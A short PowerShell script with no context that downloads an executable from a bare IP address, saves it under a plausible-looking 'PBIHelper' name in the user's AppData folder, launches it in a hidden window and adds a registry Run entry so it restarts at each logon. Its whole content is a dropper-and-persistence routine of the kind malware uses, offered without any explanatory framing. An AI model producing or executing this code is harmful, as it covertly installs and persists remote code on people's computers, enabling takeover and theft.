$dst = Join-Path $env:APPDATA "PBIHelper\pbihelper.exe"
New-Item -ItemType Directory -Force -Path (Split-Path $dst) | Out-Null
Invoke-WebRequest -Uri "http://203.0.113.140/pbihelper.exe" -OutFile $dst -UseBasicParsing
Start-Process -FilePath $dst -WindowStyle Hidden
New-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name "PBIHelper" -Value $dst -Force | Out-Null
